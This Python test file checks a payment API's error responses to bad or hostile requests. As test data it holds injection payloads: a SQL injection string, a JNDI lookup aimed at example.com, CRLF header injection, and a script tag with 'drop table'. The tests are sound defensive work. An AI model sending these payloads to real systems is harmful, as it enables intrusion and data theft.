"""Every error that the gateway and its functions can answer here, over HTTP with a real token.

`timeout` and `scope_missing` can't be raised by the emulator.
"""

import pytest

from local.stack.client import MerchantClient
from local.stack.stack import LocalStack
from runtime.domain.events import event_id
from tests.journey.asking import MISSING, Case, amount, ask, bearer, but, check, get, key

pytestmark = pytest.mark.emulator

CARD = "4242 4242 4242 4242"
CASES: dict[str, Case] = {
    "broken JSON": Case(400, "json_invalid", b'{"amount": 2500,', gateway=True),
    "a list": Case(400, "json_invalid", b"[]", gateway=True),
    "a text": Case(400, "json_invalid", b'"pay"', gateway=True),
    "a name twice": Case(400, "json_invalid", but()[:-1] + b', "amount": 1}'),
    "not a number": Case(400, "json_invalid", amount("NaN")),
    "no key": Case(400, "idempotency_key_missing", headers=key(None), gateway=True),
    "key with a space": Case(400, "idempotency_key_invalid", headers=key("one two")),
    "key too long": Case(400, "idempotency_key_invalid", headers=key("k" * 256)),
    "no amount": Case(400, "parameter_missing", but(amount=None), param="amount"),
    "no address": Case(400, "parameter_missing", but(customer={}), param="customer.email"),
    "amount as text": Case(400, "parameter_invalid", but(amount="2500"), param="amount"),
    "amount as fraction": Case(400, "parameter_invalid", amount("2500.5"), param="amount"),
    "amount true": Case(400, "parameter_invalid", but(amount=True), param="amount"),
    "negative zero": Case(400, "amount_too_small", amount("-0.0"), param="amount"),
    "no token of the PSP": Case(
        400, "parameter_invalid", but(payment_method="visa"), param="payment_method"
    ),
    "line break": Case(
        400, "parameter_invalid", but(description="a\r\nBcc: b"), param="description"
    ),
    "status given": Case(400, "parameter_unknown", but(status="succeeded"), param="status"),
    "id given": Case(400, "parameter_unknown", but(id=MISSING), param="id"),
    "nothing to pay": Case(400, "amount_too_small", but(amount=0), param="amount"),
    "below the minimum": Case(400, "amount_too_small", but(amount=49), param="amount"),
    "negative": Case(400, "amount_too_small", but(amount=-2500), param="amount"),
    "one too many": Case(400, "amount_too_large", but(amount=100_000_000), param="amount"),
    "huge": Case(400, "amount_too_large", amount("1" + "0" * 30), param="amount"),
    "too long a number": Case(400, "json_invalid", amount("1" * 5000), gateway=True),
    "no such currency": Case(400, "currency_not_supported", but(currency="xxx"), param="currency"),
    "capitals": Case(400, "currency_not_supported", but(currency="EUR"), param="currency"),
    "no e-mail address": Case(
        400, "email_invalid", but(customer={"email": "jane"}), param="customer.email"
    ),
    "a card number": Case(
        400, "card_data_not_accepted", but(description=f"card {CARD}"), param="description"
    ),
    "a card as name": Case(
        400, "card_data_not_accepted", but(metadata={CARD: "x"}), param="metadata"
    ),
    "a card as key": Case(
        400,
        "card_data_not_accepted",
        headers=key(CARD.replace(" ", "-")),
        param="Idempotency-Key",
    ),
    "a security code": Case(400, "card_data_not_accepted", but(cvc="123"), param="cvc"),
    "no token": Case(401, "token_invalid", headers={"Authorization": None}, gateway=True),
    "garbage": Case(401, "token_invalid", headers=bearer("garbage"), gateway=True),
    "unknown id": get(f"/v1/payments/{MISSING}", 404, "resource_missing"),
    "no id at all": get("/v1/payments/%23%0d%0a", 404, "resource_missing"),
    "entries of an unknown id": get(f"/v1/payments/{MISSING}/entries", 404, "resource_missing"),
    "an unknown event": get(f"/v1/events/{event_id(MISSING, 1)}", 404, "resource_missing"),
    "no event at all": get(f"/v1/events/{MISSING}", 404, "resource_missing"),
    "events of an unknown id": get(
        f"/v1/events?payment={MISSING}", 400, "parameter_invalid", param="payment"
    ),
    "events behind an unknown one": get(
        f"/v1/events?starting_after={MISSING.replace('pay_', 'evt_')}_1",
        400,
        "parameter_invalid",
        param="starting_after",
    ),
    "an unknown type of event": get(
        f"/v1/events?payment={MISSING}&type=payment.paid", 400, "parameter_invalid", param="type"
    ),
    "cancel an unknown id": Case(
        404, "resource_missing", b"", key(None), path=f"/v1/payments/{MISSING}/cancel"
    ),
    "unknown path": get("/v1/refunds", 404, "resource_missing", gateway=True),
    "unknown method": Case(404, "resource_missing", method="DELETE", gateway=True),
    "body over 8 KiB": Case(413, "body_too_large", but(description="x" * 8200)),
    "plain text": Case(415, "media_type_unsupported", headers={"Content-Type": "text/plain"}),
    "no media type": Case(415, "media_type_unsupported", headers={"Content-Type": None}),
    "compressed": Case(415, "media_type_unsupported", headers={"Content-Encoding": "gzip"}),
    "SQL in a reference": get(
        "/v1/payments?reference=1'%20or%20'1'%3D'1", 403, "request_blocked", gateway=True
    ),
    "a card in the URL": get(
        f"/v1/payments/{CARD.replace(' ', '-')}", 403, "request_blocked", gateway=True
    ),
    "a look-up in a body": Case(
        403, "request_blocked", but(description="${jndi:ldap://example.com/}"), gateway=True
    ),
    "page too large": get("/v1/payments?limit=1000000", 400, "parameter_invalid", param="limit"),
    "unknown filter": get("/v1/payments?amount=1", 400, "parameter_unknown", param="amount"),
    "unknown status": get("/v1/payments?status=paid", 400, "parameter_invalid", param="status"),
    "unknown cursor": get(
        f"/v1/payments?starting_after={MISSING}", 400, "parameter_invalid", param="starting_after"
    ),
}


@pytest.mark.fault(
    "F13",
    sees="400 `parameter_invalid`, `amount_too_small` or `amount_too_large`, naming `amount`",
    does="Converts nothing: an amount is an integer of minor units or it is refused",
)
@pytest.mark.parametrize("case", CASES.values(), ids=CASES)
def test_each_refusal_is_a_problem(acme: MerchantClient, case: Case) -> None:
    """Bad input gets its status and code as a complete problem, which never echoes a value."""
    answer = ask(acme, case)
    request_id = check(answer, case)["request_id"]
    # The id is made by chance, and may hold any digits.
    assert "4242" not in answer.text.replace(request_id, "")
    assert "Bcc" not in answer.text


def test_what_the_firewall_only_counts_is_accepted(acme: MerchantClient) -> None:
    """A callback's URL, HTML and SQL are data in a body, and a back end may have no User-Agent."""
    body = but(
        description="<script>alert(1)</script>; drop table",
        metadata={"callback": "http://203.0.113.7/../done"},
    )
    no_agent: dict[str, str | None] = {"User-Agent": ""}
    assert ask(acme, Case(202, "", body, no_agent)).status_code == 202


def test_no_refusal_leaves_a_payment(acme: MerchantClient) -> None:
    """A request that was refused wrote nothing: the same key then takes a good body."""
    one = "refused-first"
    check(
        ask(acme, Case(400, "amount_too_small", but(amount=1), key(one), param="amount")),
        Case(400, "amount_too_small", param="amount"),
    )
    assert ask(acme, Case(202, "", but(), key(one))).status_code == 202


@pytest.mark.fault(
    "F4",
    sees="422 `idempotency_key_reused`, with the time of the first use",
    does="Compares the body's hash and changes nothing",
)
def test_a_key_is_for_one_body(acme: MerchantClient) -> None:
    """The same key with another body is 422, and says when it was first used."""
    one = key("one-body")
    assert ask(acme, Case(202, "", but(), one)).status_code == 202
    case = Case(422, "idempotency_key_reused", but(amount=2501), one)
    assert " first used on 20" in check(ask(acme, case), case)["detail"]


def test_too_many_calls_are_told_when_to_come_back(acme: MerchantClient, stack: LocalStack) -> None:
    """Past a method's burst the gateway answers 429 with Retry-After."""
    gateway = stack.emulator.client("apigateway")
    (api,) = gateway.get_rest_apis()["items"]
    where = {"restApiId": api["id"], "stageName": "live"}
    usual = gateway.get_stage(**where)["methodSettings"]["~1v1~1payments/GET"]
    case = get("/v1/payments", 429, "rate_limited", gateway=True)

    def limit(rate: float, burst: int) -> None:
        gateway.update_stage(
            **where,
            patchOperations=[
                {
                    "op": "replace",
                    "path": f"/~1v1~1payments/GET/throttling/{name}",
                    "value": str(value),
                }
                for name, value in (("rateLimit", rate), ("burstLimit", burst))
            ],
        )

    limit(0.01, 1)
    try:
        answers = [ask(acme, case) for _ in range(3)]
    finally:
        limit(usual["throttlingRateLimit"], usual["throttlingBurstLimit"])
    check(answers[-1], case)
